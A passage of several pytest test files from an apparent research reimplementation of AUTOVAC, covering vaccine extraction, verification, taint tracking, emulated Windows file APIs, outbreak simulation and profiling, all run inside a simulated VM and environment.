        slice_, event, env = self._slice(LOOPY)
        clone = VaccineSlice.from_dict(slice_.to_dict())
        other = SystemEnvironment(identity=MachineIdentity(computer_name="SER-BOX"))
        assert replay_slice(clone, other) == replay_slice(slice_, other.clone())

    def test_empty_output_raises(self):
        slice_, event, env = self._slice(STRAIGHT_LINE)
        broken = VaccineSlice.from_dict(slice_.to_dict())
        broken.output_addr = 0x0018E000  # empty stack memory
        with pytest.raises(SliceReplayError):
            replay_slice(broken, env.clone())
