"""Tests for vaccine verification and report rendering."""

import pytest

from repro import AutoVac
from repro.core import (
    IdentifierKind,
    Immunization,
    Mechanism,
    Vaccine,
    render_report,
    verify_all,
    verify_vaccine,
)
from repro.corpus import build_family
from repro.winenv import ResourceType


@pytest.fixture(scope="module")
def zeus_analysis(family_programs):
    return family_programs["zeus"], AutoVac().analyze(family_programs["zeus"])


class TestVerification:
    def test_family_vaccines_all_verify(self, family_programs):
        autovac = AutoVac()
        for name, program in family_programs.items():
            analysis = autovac.analyze(program)
            report = verify_all(program, analysis.vaccines)
            assert report.all_verified, (name, [
                (r.claimed.value, r.observed.value) for r in report.failures()
            ])

    def test_full_immunization_verifies_with_high_bdr(self, zeus_analysis):
        program, analysis = zeus_analysis
        full = next(v for v in analysis.vaccines if v.is_full_immunization)
        result = verify_vaccine(program, full)
        assert result.verified and result.observed is Immunization.FULL
        assert result.bdr > 0.5

    def test_bogus_claim_fails_verification(self, zeus_analysis):
        program, _ = zeus_analysis
        bogus = Vaccine(
            malware="zeus", resource_type=ResourceType.MUTEX,
            identifier="NotARealMarker", identifier_kind=IdentifierKind.STATIC,
            mechanism=Mechanism.SIMULATE_PRESENCE,
            immunization=Immunization.FULL,
        )
        result = verify_vaccine(program, bogus)
        assert not result.verified
        assert result.observed is Immunization.NONE

    def test_stronger_observed_effect_still_verifies(self, zeus_analysis):
        """A conservative claim (partial) verified by a FULL observation."""
        program, analysis = zeus_analysis
        full = next(v for v in analysis.vaccines if v.is_full_immunization)
        import copy

        claimed_partial = copy.copy(full)
        claimed_partial.immunization = Immunization.TYPE_III_PERSISTENCE
        result = verify_vaccine(program, claimed_partial)
        assert result.verified and result.observed is Immunization.FULL

    def test_verification_counts(self, zeus_analysis):
        program, analysis = zeus_analysis
        report = verify_all(program, analysis.vaccines)
        assert report.verified_count == len(analysis.vaccines)


class TestReport:
    def test_report_contains_key_sections(self, zeus_analysis):
        _, analysis = zeus_analysis
        text = render_report(analysis)
        for heading in ("# AUTOVAC analysis: zeus", "## Phase I", "## Vaccines",
                        "## Timings"):
            assert heading in text
        assert "sdra64.exe" in text and "_AVIRA_2109" in text

    def test_report_shows_exclusiveness_table(self, zeus_analysis):
        _, analysis = zeus_analysis
        text = render_report(analysis)
        assert "whitelisted platform resource" in text

    def test_filtered_sample_report(self):
        from repro.vm import assemble

        analysis = AutoVac().analyze(assemble("main:\n    halt\n", name="inert"))
        text = render_report(analysis)
        assert "Filtered in Phase I" in text

    def test_report_describes_slice_vaccine(self, family_programs):
        analysis = AutoVac().analyze(family_programs["conficker"])
        text = render_report(analysis)
        assert "generation slice" in text
        assert "GetComputerNameA" in text

    def test_report_custom_title(self, zeus_analysis):
        _, analysis = zeus_analysis
        assert render_report(analysis, title="Custom").startswith("# Custom")
