"""Pointer-taint policy tests (§VII future-work implementation)."""

import pytest

from repro.core import select_candidates
from repro.corpus import build_index_launder_evader
from repro.vm import CPU, assemble
from repro.winapi import Dispatcher
from repro.winenv import SystemEnvironment

LAUNDER = (
    '.section .rdata\nm: .asciz "x"\n'
    ".section .data\ntbl: .byte 0, 1\n.section .text\n"
    "    push m\n    push 0\n    push 0x1F0001\n    call @OpenMutexA\n"
    "    shr eax, 8\n    and eax, 1\n"
    "    xor ebx, ebx\n    movb ebx, [tbl+eax]\n"
    "    cmp ebx, 1\n    je d\nd:\n    halt\n"
)


def run(src, taint_addresses):
    env = SystemEnvironment()
    proc = env.spawn_process("t.exe")
    cpu = CPU(assemble(src), environment=env, process=proc,
              dispatcher=Dispatcher(env, proc), taint_addresses=taint_addresses)
    cpu.run()
    return cpu


class TestPointerTaintPolicy:
    def test_default_policy_launders(self):
        cpu = run(LAUNDER, taint_addresses=False)
        assert cpu.trace.predicates == []

    def test_pointer_taint_recovers_predicate(self):
        cpu = run(LAUNDER, taint_addresses=True)
        assert len(cpu.trace.predicates) == 1
        assert any(t.api == "OpenMutexA" for t in cpu.trace.predicates[0].tags)

    def test_untainted_index_stays_clean_either_way(self):
        src = (
            ".section .data\ntbl: .byte 7, 8\n.section .text\n"
            "    mov eax, 1\n    movb ebx, [tbl+eax]\n"
            "    cmp ebx, 8\n    je d\nd:\n    halt\n"
        )
        for mode in (False, True):
            cpu = run(src, taint_addresses=mode)
            assert cpu.trace.predicates == []

    def test_values_unchanged_by_policy(self):
        a = run(LAUNDER, taint_addresses=False)
        b2 = run(LAUNDER, taint_addresses=True)
        assert a.regs == b2.regs

    def test_evader_sample_end_to_end(self):
        evader = build_index_launder_evader()
        assert not select_candidates(evader).has_vaccine_potential
        report = select_candidates(evader, taint_addresses=True)
        assert report.has_vaccine_potential
        from repro.winenv import ResourceType

        cand = report.candidate(ResourceType.MUTEX, "il_evader_mtx")
        assert cand is not None and cand.influences_control_flow

    def test_over_tainting_tradeoff_visible(self):
        """Pointer taint over-approximates: an address-only dependence taints
        data that pure data-flow policy correctly leaves clean (the paper's
        over-tainting discussion)."""
        src = (
            '.section .rdata\nm: .asciz "x"\n'
            ".section .data\ntbl: .byte 42, 42\n.section .text\n"
            "    push m\n    push 0\n    push 0x1F0001\n    call @OpenMutexA\n"
            "    shr eax, 8\n    and eax, 1\n"
            "    movb ebx, [tbl+eax]\n"       # same constant either way!
            "    cmp ebx, 42\n    je d\nd:\n    halt\n"
        )
        strict = run(src, taint_addresses=False)
        loose = run(src, taint_addresses=True)
        assert strict.trace.predicates == []   # truly independent
        assert len(loose.trace.predicates) == 1  # flagged anyway (over-taint)
