"""File API tests (guest-visible semantics per Table-I-style labels)."""

import pytest

from repro.winenv import IntegrityLevel, Win32Error, vaccine_acl


class TestCreateFile:
    def test_create_new_succeeds(self, run_asm, env):
        cpu = run_asm(
            '.section .rdata\np: .asciz "c:\\\\new.bin"\n.section .text\n'
            "    push 0\n    push 0\n    push 1\n    push 0\n    push 0\n"
            "    push 0x40000000\n    push p\n    call @CreateFileA\n    halt\n"
        )
        assert cpu.regs["eax"] >= 0x100
        assert env.filesystem.exists("c:\\new.bin")

    def test_create_new_existing_fails_with_file_exists(self, run_asm, env):
        env.filesystem.create("c:\\dup.bin", IntegrityLevel.MEDIUM)
        cpu = run_asm(
            '.section .rdata\np: .asciz "c:\\\\dup.bin"\n.section .text\n'
            "    push 0\n    push 0\n    push 1\n    push 0\n    push 0\n"
            "    push 0x40000000\n    push p\n    call @CreateFileA\n    halt\n"
        )
        assert cpu.regs["eax"] == 0xFFFFFFFF
        assert cpu.process.last_error == int(Win32Error.FILE_EXISTS)

    def test_open_existing_missing_fails(self, run_asm):
        cpu = run_asm(
            '.section .rdata\np: .asciz "c:\\\\ghost"\n.section .text\n'
            "    push 0\n    push 0\n    push 3\n    push 0\n    push 0\n"
            "    push 0x80000000\n    push p\n    call @CreateFileA\n    halt\n"
        )
        assert cpu.regs["eax"] == 0xFFFFFFFF
        assert cpu.process.last_error == int(Win32Error.FILE_NOT_FOUND)

    def test_operation_refined_by_disposition(self, run_asm, env):
        env.filesystem.create("c:\\r.txt", IntegrityLevel.MEDIUM)
        cpu = run_asm(
            '.section .rdata\np: .asciz "c:\\\\r.txt"\n.section .text\n'
            "    push 0\n    push 0\n    push 3\n    push 0\n    push 0\n"
            "    push 0x80000000\n    push p\n    call @CreateFileA\n    halt\n"
        )
        from repro.winenv import Operation

        event = cpu.trace.api_calls[0]
        assert event.operation is Operation.READ

    def test_locked_vaccine_file_blocks_low_writer(self, run_asm, env):
        env.filesystem.create("c:\\vac.exe", IntegrityLevel.SYSTEM, acl=vaccine_acl())
        cpu = run_asm(
            '.section .rdata\np: .asciz "c:\\\\vac.exe"\n.section .text\n'
            "    push 0\n    push 0\n    push 2\n    push 0\n    push 0\n"
            "    push 0x40000000\n    push p\n    call @CreateFileA\n    halt\n"
        )
        assert cpu.regs["eax"] == 0xFFFFFFFF
        assert cpu.process.last_error == int(Win32Error.ACCESS_DENIED)


class TestReadWrite:
    DROP_AND_READ = (
        '.section .rdata\np: .asciz "c:\\\\f.bin"\nmsg: .asciz "HELLO"\n'
        ".section .data\nh: .dword 0\nbuf: .space 16\nn: .space 4\n.section .text\n"
        "    push 0\n    push 0\n    push 1\n    push 0\n    push 0\n"
        "    push 0x40000000\n    push p\n    call @CreateFileA\n"
        "    mov [h], eax\n"
        "    push 0\n    push n\n    push 5\n    push msg\n    push [h]\n    call @WriteFile\n"
        "    push [h]\n    call @CloseHandle\n"
    )

    def test_write_persists_to_filesystem(self, run_asm, env):
        run_asm(self.DROP_AND_READ + "    halt\n")
        assert env.filesystem.read("c:\\f.bin", IntegrityLevel.MEDIUM) == b"HELLO"

    def test_read_file_returns_content_tainted(self, run_asm, env):
        env.filesystem.create("c:\\in.txt", IntegrityLevel.MEDIUM, content=b"DATA")
        cpu = run_asm(
            '.section .rdata\np: .asciz "c:\\\\in.txt"\n'
            ".section .data\nh: .dword 0\nbuf: .space 16\nn: .space 4\n.section .text\n"
            "    push 0\n    push 0\n    push 3\n    push 0\n    push 0\n"
            "    push 0x80000000\n    push p\n    call @CreateFileA\n"
            "    mov [h], eax\n"
            "    push 0\n    push n\n    push 4\n    push buf\n    push [h]\n    call @ReadFile\n"
            "    halt\n"
        )
        text, taints = cpu.memory.read_cstring(cpu.program.labels["buf"])
        assert text == "DATA"
        assert all(taints)  # file content is resource-tainted

    def test_read_file_identifier_resolved_through_handle(self, run_asm, env):
        env.filesystem.create("c:\\in.txt", IntegrityLevel.MEDIUM, content=b"x")
        cpu = run_asm(
            '.section .rdata\np: .asciz "c:\\\\in.txt"\n'
            ".section .data\nh: .dword 0\nbuf: .space 8\n.section .text\n"
            "    push 0\n    push 0\n    push 3\n    push 0\n    push 0\n"
            "    push 0x80000000\n    push p\n    call @CreateFileA\n"
            "    mov [h], eax\n"
            "    push 0\n    push 0\n    push 1\n    push buf\n    push [h]\n    call @ReadFile\n"
            "    halt\n"
        )
        read_event = cpu.trace.events_for_api("ReadFile")[0]
        assert read_event.identifier == "c:\\in.txt"
        assert read_event.extra["origin_event"] == cpu.trace.events_for_api("CreateFileA")[0].event_id


class TestFileChecks:
    def test_get_file_attributes_missing(self, run_asm):
        cpu = run_asm(
            '.section .rdata\np: .asciz "c:\\\\none"\n.section .text\n'
            "    push p\n    call @GetFileAttributesA\n    halt\n"
        )
        assert cpu.regs["eax"] == 0xFFFFFFFF

    def test_get_file_attributes_directory_bit(self, run_asm):
        cpu = run_asm(
            '.section .rdata\np: .asciz "%system32%"\n.section .text\n'
            "    push p\n    call @GetFileAttributesA\n    halt\n"
        )
        assert cpu.regs["eax"] == 0x10

    def test_delete_file(self, run_asm, env):
        env.filesystem.create("c:\\del.me", IntegrityLevel.MEDIUM)
        cpu = run_asm(
            '.section .rdata\np: .asciz "c:\\\\del.me"\n.section .text\n'
            "    push p\n    call @DeleteFileA\n    halt\n"
        )
        assert cpu.regs["eax"] == 1
        assert not env.filesystem.exists("c:\\del.me")

    def test_copy_file_fail_if_exists(self, run_asm, env):
        env.filesystem.create("c:\\src", IntegrityLevel.MEDIUM, content=b"s")
        env.filesystem.create("c:\\dst", IntegrityLevel.MEDIUM)
        cpu = run_asm(
            '.section .rdata\ns: .asciz "c:\\\\src"\nd: .asciz "c:\\\\dst"\n.section .text\n'
            "    push 1\n    push d\n    push s\n    call @CopyFileA\n    halt\n"
        )
        assert cpu.regs["eax"] == 0

    def test_find_first_file_wildcard(self, run_asm, env):
        env.filesystem.create("c:\\probe_x.dat", IntegrityLevel.MEDIUM)
        cpu = run_asm(
            '.section .rdata\np: .asciz "c:\\\\probe_*.dat"\n'
            ".section .data\nfd: .space 32\n.section .text\n"
            "    push fd\n    push p\n    call @FindFirstFileA\n    halt\n"
        )
        assert cpu.regs["eax"] >= 0x100

    def test_get_temp_file_name_is_random_tainted(self, run_asm, env):
        from repro.taint.labels import TaintClass

        cpu = run_asm(
            '.section .rdata\npre: .asciz "ab"\n.section .data\nout: .space 64\n.section .text\n'
            "    push out\n    push 0\n    push pre\n    push 0\n    call @GetTempFileNameA\n    halt\n"
        )
        text, taints = cpu.memory.read_cstring(cpu.program.labels["out"])
        assert text.startswith("c:\\windows\\temp\\ab")
        assert all(any(t.klass is TaintClass.RANDOM for t in ts) for ts in taints)
        assert env.filesystem.exists(text)

    def test_close_handle(self, run_asm, env):
        cpu = run_asm(
            '.section .rdata\np: .asciz "c:\\\\ch.bin"\n.section .text\n'
            "    push 0\n    push 0\n    push 1\n    push 0\n    push 0\n"
            "    push 0x40000000\n    push p\n    call @CreateFileA\n"
            "    push eax\n    call @CloseHandle\n    halt\n"
        )
        assert cpu.regs["eax"] == 1
        assert len(cpu.process.handles) == 0
