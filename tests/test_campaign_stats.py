"""Tests for the outbreak/campaign simulation and the stats helpers."""

import pytest

from repro import AutoVac, VaccinePackage
from repro.analysis.stats import (
    chi_square_statistic,
    geometric_mean_ratio,
    normalize,
    rank_agreement,
    summarize,
    total_variation,
)
from repro.campaign import Fleet, attempt_infection, simulate_outbreak
from repro.corpus import build_family


@pytest.fixture(scope="module")
def conficker_package(family_programs):
    analysis = AutoVac().analyze(family_programs["conficker"])
    return family_programs["conficker"], VaccinePackage(vaccines=analysis.vaccines)


class TestFleet:
    def test_fleet_machines_distinct(self):
        fleet = Fleet(5, seed=1)
        names = {m.name for m in fleet.machines}
        assert len(names) == 5

    def test_vaccinate_coverage(self, conficker_package):
        _, package = conficker_package
        fleet = Fleet(10, seed=2)
        count = fleet.vaccinate(package, coverage=0.5)
        assert count == 5
        assert sum(m.vaccinated for m in fleet.machines) == 5

    def test_vaccinate_idempotent_on_vaccinated(self, conficker_package):
        _, package = conficker_package
        fleet = Fleet(4, seed=2)
        fleet.vaccinate(package, coverage=1.0)
        assert fleet.vaccinate(package, coverage=1.0) == 0


class TestInfectionMechanics:
    def test_infection_succeeds_on_clean_machine(self, conficker_package):
        worm, _ = conficker_package
        fleet = Fleet(1, seed=3)
        assert attempt_infection(worm, fleet.machines[0])

    def test_reinfection_fails_on_infected_machine(self, conficker_package):
        worm, _ = conficker_package
        fleet = Fleet(1, seed=3)
        assert attempt_infection(worm, fleet.machines[0])
        assert not attempt_infection(worm, fleet.machines[0])  # marker present

    def test_infection_fails_on_vaccinated_machine(self, conficker_package):
        worm, package = conficker_package
        fleet = Fleet(1, seed=3)
        fleet.vaccinate(package, coverage=1.0)
        assert not attempt_infection(worm, fleet.machines[0])


class TestOutbreak:
    def test_unchecked_outbreak_spreads(self, conficker_package):
        worm, _ = conficker_package
        result = simulate_outbreak(worm, Fleet(12, seed=5), rounds=6)
        assert result.final_infection_rate > 0.8
        infected_over_time = [s.infected for s in result.history]
        assert infected_over_time == sorted(infected_over_time)  # monotone

    def test_campaign_caps_outbreak(self, conficker_package):
        worm, package = conficker_package
        result = simulate_outbreak(
            worm, Fleet(12, seed=5), rounds=6,
            vaccine_package=package, vaccinate_at_round=1,
        )
        assert result.final_infection_rate < 0.5

    def test_coverage_monotonicity(self, conficker_package):
        worm, package = conficker_package
        rates = []
        for coverage in (0.0, 0.5, 1.0):
            result = simulate_outbreak(
                worm, Fleet(10, seed=9), rounds=5,
                vaccine_package=package if coverage else None,
                vaccinate_at_round=1, coverage=coverage,
            )
            rates.append(result.final_infection_rate)
        assert rates[2] <= rates[1] <= rates[0]

    def test_history_bookkeeping(self, conficker_package):
        worm, package = conficker_package
        result = simulate_outbreak(worm, Fleet(6, seed=1), rounds=3,
                                   vaccine_package=package, vaccinate_at_round=2)
        assert [s.round for s in result.history] == [0, 1, 2, 3]
        assert result.history[-1].vaccinated > 0
        assert result.infected_at(0) >= 1


class TestStats:
    def test_normalize(self):
        assert normalize({"a": 1, "b": 3}) == {"a": 0.25, "b": 0.75}
        assert normalize({}) == {}

    def test_total_variation_bounds(self):
        assert total_variation({"a": 1}, {"a": 1}) == 0.0
        assert total_variation({"a": 1}, {"b": 1}) == 1.0

    def test_total_variation_accepts_counts(self):
        assert total_variation({"a": 2, "b": 2}, {"a": 50, "b": 50}) == 0.0

    def test_rank_agreement_perfect_and_inverted(self):
        p = {"a": 3, "b": 2, "c": 1}
        assert rank_agreement(p, p) == 1.0
        assert rank_agreement(p, {"a": 1, "b": 2, "c": 3}) == 0.0

    def test_chi_square_zero_for_exact_match(self):
        observed = {"a": 50, "b": 50}
        assert chi_square_statistic(observed, {"a": 0.5, "b": 0.5}) == 0.0

    def test_geometric_mean_ratio_identity(self):
        d = {"a": 0.4, "b": 0.6}
        assert geometric_mean_ratio(d, d) == pytest.approx(1.0)

    def test_summarize(self):
        assert summarize([3.0, 1.0, 2.0]) == (1.0, 2.0, 2.0, 3.0)
        with pytest.raises(ValueError):
            summarize([])

    def test_paper_table2_distance_small(self):
        """The generator weights themselves are the paper's Table II."""
        from repro.corpus import CATEGORY_WEIGHTS

        paper = {"backdoor": 42.07, "downloader": 33.44, "trojan": 10.72,
                 "worm": 6.06, "adware": 4.25, "virus": 3.43}
        assert total_variation(CATEGORY_WEIGHTS, paper) < 0.01
        assert rank_agreement(CATEGORY_WEIGHTS, paper) == 1.0


class TestRustock:
    def test_pipeline_extracts_pipe_vaccine(self):
        from repro.corpus import build_rustock
        from repro.winenv import ResourceType

        analysis = AutoVac().analyze(build_rustock())
        pipe = next(v for v in analysis.vaccines if "pipe" in v.identifier)
        assert pipe.resource_type is ResourceType.FILE
        assert pipe.is_full_immunization

    def test_mapping_marker_vaccine(self):
        from repro.corpus import build_rustock
        from repro.winenv import ResourceType

        analysis = AutoVac().analyze(build_rustock())
        mapping = next(v for v in analysis.vaccines if v.identifier == "RstkShm_4")
        assert mapping.resource_type is ResourceType.MUTEX

    def test_vaccinated_host_protected(self):
        from repro import SystemEnvironment, deploy
        from repro.core import run_sample
        from repro.corpus import build_rustock

        program = build_rustock()
        analysis = AutoVac().analyze(program)
        host = SystemEnvironment()
        deploy(VaccinePackage(vaccines=analysis.vaccines), host)
        run = run_sample(program, environment=host, record_instructions=False)
        assert run.trace.terminated
        assert run.environment.services.lookup("rstkdrv") is None or \
            not run.environment.services.lookup("rstkdrv").is_kernel_driver
