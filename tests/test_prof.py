"""Hot-path profiler (``repro.obs.prof``): collection, determinism, merge,
export formats, and the CLI/report surfaces (PR 9).

The load-bearing property is *determinism*: a profile's path set and counts
depend only on what executed, so ``jobs=1`` and ``jobs=2`` runs of the same
corpus slice produce identical trees (wall times differ, structure and
counts do not).  That is what makes profiles mergeable across workers the
way metrics snapshots already are.
"""

from __future__ import annotations

import json

import pytest

from repro import AutoVac, obs
from repro.cli import main as cli_main
from repro.core.executor import PipelineConfig, analyze_population
from repro.core.report import render_report
from repro.corpus import GeneratorConfig, build_family, generate_population
from repro.obs.prof import (
    Profiler,
    merge_profiles,
    render_table,
    to_folded,
    to_tree,
)
from repro.tracing import serialize


@pytest.fixture(autouse=True)
def _clean_prof():
    """Profiling is opt-in; every test starts and ends with it off/empty."""
    obs.prof.enabled = False
    obs.prof.reset()
    yield
    obs.prof.enabled = False
    obs.prof.reset()


def counts(profile):
    """The deterministic projection of a profile: path -> count."""
    return {path: cell[0] for path, cell in profile.items()}


# ---------------------------------------------------------------------------
# unit: Profiler core
# ---------------------------------------------------------------------------


class TestProfilerCore:
    def test_disabled_add_is_noop(self):
        p = Profiler()
        p.add("vm;slow", 1.0)
        assert len(p) == 0 and p.snapshot() == {}

    def test_add_accumulates(self):
        p = Profiler()
        p.enabled = True
        p.add("vm;slow", 0.5, count=3)
        p.add("vm;slow", 0.25)
        assert p.snapshot() == {"vm;slow": [4, 0.75]}

    def test_timed_context(self):
        p = Profiler()
        p.enabled = True
        with p.timed("rules;daemon"):
            pass
        ((count, seconds),) = p.snapshot().values()
        assert count == 1 and seconds >= 0.0

    def test_mark_since_delta(self):
        p = Profiler()
        p.enabled = True
        p.add("api;X", 1.0)
        mark = p.mark()
        p.add("api;X", 0.5)
        p.add("api;Y", 0.25, count=2)
        assert p.since(mark) == {"api;X": [1, 0.5], "api;Y": [2, 0.25]}

    def test_absorb_not_gated_on_enabled(self):
        p = Profiler()  # disabled: absorb is data plumbing, not collection
        p.absorb({"vm;fast": [7, 0.5]})
        p.absorb({"vm;fast": [3, 0.25], "vm;slow": [1, 0.1]})
        assert p.snapshot() == {"vm;fast": [10, 0.75], "vm;slow": [1, 0.1]}

    def test_merge_profiles_commutative(self):
        a = {"vm;slow": [2, 0.2], "api;X": [1, 0.1]}
        b = {"vm;slow": [3, 0.3], "api;Y": [4, 0.4]}
        assert merge_profiles(a, b) == merge_profiles(b, a, None)

    def test_reset_keeps_enabled(self):
        p = Profiler()
        p.enabled = True
        p.add("x", 1.0)
        p.reset()
        assert p.enabled and len(p) == 0


class TestExportFormats:
    PROFILE = {
        "api;Open": [4, 0.4],
        "api;Open;read_args": [4, 0.1],
        "vm;slow": [100, 1.0],
    }

    def test_tree_self_time(self):
        tree = to_tree(self.PROFILE)
        by_name = {node["name"]: node for node in tree}
        api = by_name["api"]  # synthesized interior frame
        assert api["total_seconds"] == pytest.approx(0.4)
        assert api["self_seconds"] == 0.0
        open_node = api["children"][0]
        assert open_node["count"] == 4
        # own cell minus the read_args child
        assert open_node["self_seconds"] == pytest.approx(0.3)
        assert by_name["vm"]["children"][0]["self_seconds"] == pytest.approx(1.0)

    def test_folded_is_self_microseconds(self):
        lines = dict(
            line.rsplit(" ", 1) for line in to_folded(self.PROFILE).splitlines()
        )
        assert lines["api;Open"] == "300000"  # 0.4 total - 0.1 child
        assert lines["api;Open;read_args"] == "100000"
        assert lines["vm;slow"] == "1000000"

    def test_render_table_top(self):
        text = render_table(self.PROFILE, top=1)
        assert "vm;slow" in text and "api;Open" not in text

    def test_render_table_empty(self):
        assert "no profile data" in render_table({})


# ---------------------------------------------------------------------------
# pipeline collection + codec
# ---------------------------------------------------------------------------


class TestPipelineCollection:
    def test_analysis_carries_profile_with_expected_nodes(self):
        with obs.profiled():
            analysis = AutoVac().analyze(build_family("conficker"))
        profile = analysis.profile
        assert profile
        paths = set(profile)
        assert "vm;slow" in paths
        assert any(p.startswith("api;") for p in paths)
        assert any(p.endswith(";read_args") for p in paths)
        assert "snapshot;capture;env_snapshot" in paths
        assert "snapshot;resume;env_restore" in paths

    def test_profile_off_analysis_has_none(self):
        analysis = AutoVac().analyze(build_family("sality"))
        assert analysis.profile is None

    def test_codec_roundtrip_preserves_profile(self):
        with obs.profiled():
            analysis = AutoVac().analyze(build_family("sality"))
        decoded = serialize.analysis_from_dict(
            json.loads(serialize.analysis_to_json(analysis))
        )
        assert decoded.profile == analysis.profile


class TestDeterminismAcrossJobs:
    SIZE = 4
    SEED = 11

    def _survey(self, jobs, run_dir=None):
        programs = [
            s.program
            for s in generate_population(GeneratorConfig(size=self.SIZE, seed=self.SEED))
        ]
        obs.reset()
        obs.prof.enabled = False
        result = analyze_population(
            programs,
            config=PipelineConfig(profile=True),
            jobs=jobs,
            run_dir=run_dir,
        )
        return result, obs.prof.snapshot()

    def test_jobs2_tree_matches_jobs1(self):
        seq, seq_profile = self._survey(jobs=1)
        par, par_profile = self._survey(jobs=2)
        assert not seq.failures and not par.failures
        assert set(seq_profile) == set(par_profile)
        assert counts(seq_profile) == counts(par_profile)
        # per-sample deltas are identical too (by sample name)
        seq_by_name = {a.program.name: a.profile for a in seq.analyses}
        par_by_name = {a.program.name: a.profile for a in par.analyses}
        assert {n: counts(p) for n, p in seq_by_name.items()} == {
            n: counts(p) for n, p in par_by_name.items()
        }

    def test_profile_jsonl_written(self, tmp_path):
        run_dir = tmp_path / "run"
        result, profile = self._survey(jobs=1, run_dir=run_dir)
        assert profile
        rows = [
            json.loads(line)
            for line in (run_dir / "profile.jsonl").read_text().splitlines()
        ]
        kinds = [row["kind"] for row in rows]
        assert kinds.count("sample.profile") == len(result.analyses)
        assert kinds[-1] == "run.profile"
        merged = merge_profiles(
            *(row["profile"] for row in rows if row["kind"] == "sample.profile")
        )
        assert counts(merged) == counts(rows[-1]["profile"])


# ---------------------------------------------------------------------------
# surfaces: CLI, report, stats
# ---------------------------------------------------------------------------


class TestSurfaces:
    def test_cli_profile_table(self, capsys):
        assert cli_main(["profile", "conficker", "--top", "5"]) == 0
        out = capsys.readouterr().out
        assert "hot paths for conficker" in out
        assert "vm;slow" in out

    def test_cli_profile_json_tree(self, capsys):
        assert cli_main(["profile", "conficker", "--json"]) == 0
        doc = json.loads(capsys.readouterr().out)
        assert doc["sample"] == "conficker"
        names = {node["name"] for node in doc["tree"]}
        assert {"vm", "api", "snapshot"} <= names

    def test_cli_profile_folded(self, capsys):
        assert cli_main(["profile", "conficker", "--folded"]) == 0
        lines = capsys.readouterr().out.splitlines()
        assert lines
        for line in lines:
            path, value = line.rsplit(" ", 1)
            assert path and int(value) >= 0

    def test_report_hot_paths_section(self):
        with obs.profiled():
            analysis = AutoVac().analyze(build_family("conficker"))
        report = render_report(analysis)
        assert "## Hot paths" in report
        assert "vm;slow" in report

    def test_stats_renders_profile_and_tiers(self, tmp_path, capsys):
        with obs.profiled():
            AutoVac().analyze(build_family("conficker"))
        snap = tmp_path / "m.json"
        obs.export_json(snap)
        assert cli_main(["stats", str(snap)]) == 0
        out = capsys.readouterr().out
        assert "== hot paths ==" in out
        assert "== vm execution tiers ==" in out
        assert "superblocks:" in out

    def test_prometheus_span_quantiles(self, tmp_path, capsys):
        AutoVac().analyze(build_family("sality"))
        snap = tmp_path / "m.json"
        obs.export_json(snap)
        assert cli_main(["stats", str(snap), "--prom"]) == 0
        out = capsys.readouterr().out
        assert "# TYPE repro_span_seconds summary" in out
        assert 'repro_span_seconds{span="pipeline.analyze",quantile="0.5"}' in out
        assert 'repro_span_seconds_count{span="pipeline.analyze"}' in out

    def test_tail_interval_in_help(self, capsys):
        with pytest.raises(SystemExit):
            cli_main(["tail", "--help"])
        assert "--interval" in capsys.readouterr().out
