"""Snapshot-resume equivalence: resumed mutated runs must be
indistinguishable from full reruns.

The snapshot path is a pure optimization — every corpus family must
produce a byte-identical encoded ``SampleAnalysis`` (modulo wall-clock
spans) whether Phase-II impact analysis resumes from checkpoints or
re-executes each mutated run from scratch.
"""

from __future__ import annotations

import pytest

from repro.core.candidate import select_candidates
from repro.core.impact import ImpactAnalyzer
from repro.core.pipeline import AutoVac
from repro.core.snapshot import pickle_env_overridden
from repro.tracing import serialize


def _encoded(analysis) -> dict:
    payload = serialize.analysis_to_dict(analysis)
    payload.pop("span", None)  # wall-clock timings legitimately differ
    # The flight journal records *how* the run executed (snapshot.capture /
    # snapshot.resume events, resumed-vs-rerun mutations) and so differs by
    # design between the two strategies; the equivalence contract covers the
    # analysis results.
    payload.pop("journal", None)
    return payload


FAMILY_NAMES = ["conficker", "zeus", "sality", "qakbot", "ibank", "poisonivy"]


@pytest.fixture(scope="module")
def snapshot_analyses(family_programs):
    av = AutoVac(snapshot_impact=True)
    return {name: av.analyze(p) for name, p in family_programs.items()}


@pytest.fixture(scope="module")
def rerun_analyses(family_programs):
    av = AutoVac(snapshot_impact=False)
    return {name: av.analyze(p) for name, p in family_programs.items()}


@pytest.fixture(scope="module")
def pickle_blob_analyses(family_programs):
    """Snapshot-resume again, but with the legacy pickle-blob environment
    capture forced — the third leg of the equivalence triangle."""
    av = AutoVac(snapshot_impact=True)
    with pickle_env_overridden(True):
        return {name: av.analyze(p) for name, p in family_programs.items()}


@pytest.mark.parametrize("family", FAMILY_NAMES)
def test_families_identical_under_snapshot_resume(
    family, family_programs, snapshot_analyses, rerun_analyses
):
    assert family in family_programs
    assert _encoded(snapshot_analyses[family]) == _encoded(rerun_analyses[family])


@pytest.mark.parametrize("family", FAMILY_NAMES)
def test_families_identical_under_pickle_blob_capture(
    family, snapshot_analyses, pickle_blob_analyses
):
    # Structured restore vs the legacy blob: with the rerun equivalence
    # above, this closes the three-way triangle per family.
    assert _encoded(pickle_blob_analyses[family]) == _encoded(
        snapshot_analyses[family]
    )


def test_families_produce_vaccines(snapshot_analyses):
    # Guard against vacuous equivalence: the snapshot path must still be
    # exercising real Phase-II work for the corpus.
    assert any(a.vaccines for a in snapshot_analyses.values())
    assert any(
        o.mutation_hits > 0 for a in snapshot_analyses.values() for o in a.impacts
    )


class TestAnalyzeCandidatesDirect:
    def _candidates(self, program):
        report = select_candidates(program)
        return report, [
            c for c in report.candidates if c.influences_control_flow or c.had_failure
        ]

    @pytest.mark.parametrize("family", ["conficker", "zeus"])
    def test_outcomes_match_legacy_loop(self, family, family_programs):
        program = family_programs[family]
        report, candidates = self._candidates(program)
        assert candidates

        fast = ImpactAnalyzer(snapshot_resume=True).analyze_candidates(
            program, candidates, report.trace
        )
        legacy = ImpactAnalyzer(snapshot_resume=False).analyze_candidates(
            program, candidates, report.trace
        )

        assert len(fast) == len(legacy) == 2 * len(candidates)
        for f, l in zip(fast, legacy):
            assert f.candidate.key == l.candidate.key
            assert f.mechanism == l.mechanism
            assert f.immunization == l.immunization
            assert f.effects == l.effects
            assert f.mutation_hits == l.mutation_hits
            assert [e.context_key() for e in f.alignment.delta_mutated] == [
                e.context_key() for e in l.alignment.delta_mutated
            ]
            assert [e.context_key() for e in f.alignment.delta_natural] == [
                e.context_key() for e in l.alignment.delta_natural
            ]
            assert (
                f.mutated_run.trace.exit_status == l.mutated_run.trace.exit_status
            )
            assert f.mutated_run.trace.steps == l.mutated_run.trace.steps

    def test_resumed_traces_are_complete(self, family_programs):
